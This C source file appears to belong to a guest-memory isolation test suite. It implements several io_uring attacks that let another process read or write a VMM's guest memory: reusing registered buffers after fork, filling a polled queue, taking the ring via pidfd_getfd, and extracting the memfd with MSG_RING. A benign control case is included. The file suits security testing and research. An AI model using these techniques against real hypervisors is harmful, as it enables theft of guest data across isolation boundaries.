/* SPDX-License-Identifier: Apache-2.0 */
/* Ways into the memory of a guest by io_uring: registered buffers and files are the ring's. */
#include "victim.h"

#include <errno.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>
#include <linux/io_uring.h>

struct ring {
	int fd;
	uint8_t *queues;
	struct io_uring_sqe *entries;
	struct io_uring_params at;
};

static void map_ring(struct ring *ring)
{
	size_t size = ring->at.cq_off.cqes + ring->at.cq_entries * sizeof(struct io_uring_cqe) +
		      ring->at.sq_off.array + ring->at.sq_entries * sizeof(uint32_t);

	ring->queues = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd,
			    IORING_OFF_SQ_RING);
	ring->entries = mmap(NULL, ring->at.sq_entries * sizeof(struct io_uring_sqe),
			     PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_SQES);
	if (ring->queues == MAP_FAILED || ring->entries == MAP_FAILED)
		die("the io_uring's queues");
}

static struct ring make_ring(void)
{
	struct ring ring = { 0 };

	ring.fd = syscall(SYS_io_uring_setup, 4, &ring.at);
	if (ring.fd < 0)
		die("io_uring_setup");
	map_ring(&ring);
	return ring;
}

static void enroll(const struct ring *ring, unsigned int what, void *arg, unsigned int count)
{
	if (syscall(SYS_io_uring_register, ring->fd, what, arg, count) < 0)
		die("io_uring_register");
}

static void queue(struct ring *ring, const struct io_uring_sqe *entry)
{
	uint8_t *q = ring->queues;
	uint32_t *tail = (uint32_t *)(q + ring->at.sq_off.tail);
	uint32_t index = *tail & *(uint32_t *)(q + ring->at.sq_off.ring_mask);

	ring->entries[index] = *entry;
	((uint32_t *)(q + ring->at.sq_off.array))[index] = index;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
}

/* One request, and its result. */
static long submit(struct ring *ring, const struct io_uring_sqe *entry)
{
	uint8_t *q = ring->queues;
	uint32_t *head = (uint32_t *)(q + ring->at.cq_off.head);
	struct io_uring_cqe *done;
	long got;

	queue(ring, entry);
	if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
		return -errno;
	done = (struct io_uring_cqe *)(q + ring->at.cq_off.cqes) +
	       (*head & *(uint32_t *)(q + ring->at.cq_off.ring_mask));
	got = done->res;
	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	return got;
}

/* Moves guest memory through a pipe, by buffers that the VMM has registered: no page table of
   ours has it. */
static void use_buffers(struct ring *ring)
{
	struct io_uring_sqe entry = { .opcode = IORING_OP_WRITE_FIXED, .len = 64,
				      .addr = (uint64_t)ram.map + SECRET_AT };
	char text[64] = "";
	int pair[2];
	long got;

	if (pipe(pair))
		die("pipe");
	entry.fd = pair[1];
	got = submit(ring, &entry);
	if (got > 0 && read(pair[0], text, sizeof(text) - 1) < 0)
		die("read");
	tell("write_fixed", -1, got, text);
	snprintf(text, sizeof(text), "WRITTEN by %s", role);
	if (write(pair[1], text, sizeof(text)) < 0)
		die("write");
	/* What is left of the first write comes out before it. */
	if (got == sizeof(text) && read(pair[0], text, 1) != 1)
		die("read");
	entry.opcode = IORING_OP_READ_FIXED;
	entry.fd = pair[0];
	entry.addr = (uint64_t)ram.map + WRITTEN_AT;
	tell("read_fixed", -1, submit(ring, &entry), NULL);
}

static struct ring ring_over_ram(void)
{
	struct ring ring = make_ring();
	struct iovec buffer = { ram.map, SIZE };

	enroll(&ring, IORING_REGISTER_BUFFERS, &buffer, 1);
	return ring;
}

/* A well-behaved one: the VMM does its I/O so. */
static void ring_own(void)
{
	struct ring ring;

	start_vm();
	ring = ring_over_ram();
	use_buffers(&ring);
	end_vm();
}

static void ring_child(void)
{
	struct ring ring;

	start_vm();
	ring = ring_over_ram();
	if (madvise(ram.map, SIZE, MADV_DONTFORK))
		die("MADV_DONTFORK");
	if (!fork()) {
		role = "attacker";
		map_ring(&ring);
		use_buffers(&ring);
		_exit(0);
	}
	end_vm();
}

/* As ring_child, but a thread of the kernel, which is the VMM's, does what the child puts into the
   queue: the child calls nothing at all. */
static void ring_poll(void)
{
	struct io_uring_sqe entry = { .opcode = IORING_OP_WRITE_FIXED, .len = 64 };
	struct ring ring = { .at = { .flags = IORING_SETUP_SQPOLL, .sq_thread_idle = 5000 } };
	struct iovec buffer;
	char text[80] = "";
	int pair[2];

	start_vm();
	if (pipe(pair) || madvise(ram.map, SIZE, MADV_DONTFORK))
		die("MADV_DONTFORK");
	ring.fd = syscall(SYS_io_uring_setup, 4, &ring.at);
	if (ring.fd < 0)
		die("io_uring_setup");
	map_ring(&ring);
	buffer = (struct iovec){ ram.map, SIZE };
	enroll(&ring, IORING_REGISTER_BUFFERS, &buffer, 1);
	queue(&ring, &(struct io_uring_sqe){ .opcode = IORING_OP_NOP });
	if (syscall(SYS_io_uring_enter, ring.fd, 1, 0, IORING_ENTER_SQ_WAKEUP, NULL, 0) < 0)
		die("io_uring_enter");
	if (!fork()) {
		role = "attacker";
		entry.fd = pair[1];
		entry.addr = (uint64_t)ram.map + SECRET_AT;
		queue(&ring, &entry);
		if (read(pair[0], text, sizeof(text) - 1) < 0)
			die("read");
		tell("write_fixed", -1, 0, text);
		_exit(0);
	}
	end_vm();
}

static void use_stolen_ring(int socket)
{
	struct target target = hear_target(socket);
	struct ring ring = { .fd = -1 };

	ring.fd = get_of(target.pid, hear(socket, NULL));
	ram.map = target.map;
	ring.at = make_ring().at;	/* the same places */
	map_ring(&ring);
	use_buffers(&ring);
	say(socket, 0, -1);
}

static void ring_getfd(void)
{
	int socket = start("attacker", use_stolen_ring);
	struct ring ring;

	start_vm();
	ring = ring_over_ram();
	point_to_ram(socket);
	say(socket, ring.fd, -1);
	hear(socket, NULL);
	end_vm();
}

/* Takes a file out of the VMM's table of files into a table of its own, then reads it: no
   descriptor of ours is it. */
static void take_by_message(int socket)
{
	struct target target = hear_target(socket);
	struct ring theirs = { .fd = -1 }, ours = make_ring();
	int none = -1, memory;
	char text[80] = "";
	struct io_uring_sqe entry = { .opcode = IORING_OP_MSG_RING, .addr = IORING_MSG_SEND_FD,
				      .fd = ours.fd, .file_index = 1 };
	struct io_uring_sqe read = { .opcode = IORING_OP_READ, .flags = IOSQE_FIXED_FILE,
				     .addr = (uint64_t)text, .len = sizeof(text) - 1 };
	struct io_uring_sqe install = { .opcode = 54 /* IORING_OP_FIXED_FD_INSTALL */,
					.flags = IOSQE_FIXED_FILE };
	long got;

	enroll(&ours, IORING_REGISTER_FILES, &none, 1);
	theirs.fd = get_of(target.pid, hear(socket, NULL));
	theirs.at = ours.at;
	map_ring(&theirs);
	tell("msg_ring", -1, submit(&theirs, &entry), NULL);
	*(uint32_t *)(ours.queues + ours.at.cq_off.head) += 1;	/* the message's own */
	got = submit(&ours, &read);
	tell("read", -1, got, text);
	memory = submit(&ours, &install);
	if (memory >= 0)
		map_of(memory);
	say(socket, 0, -1);
}

static void msg_ring(void)
{
	int socket = start("attacker", take_by_message);
	struct ring ring;

	start_vm();
	ring = make_ring();
	enroll(&ring, IORING_REGISTER_FILES, &ram.fd, 1);
	point_to_ram(socket);
	say(socket, ring.fd, -1);
	hear(socket, NULL);
	end_vm();
}

const struct attack RINGS[] = {
	{ "ring-child", ring_child, "a child uses the VMM's registered buffers" },
	{ "ring-poll", ring_poll, "a child fills the queue of a ring that is polled" },
	{ "ring-getfd", ring_getfd, "another process uses them, by pidfd_getfd of the ring" },
	{ "msg-ring", msg_ring, "takes the memfd out of the VMM's ring by a message" },
	{ "ring-own", ring_own, "the VMM itself uses its registered buffers" },
	{ 0 },
};
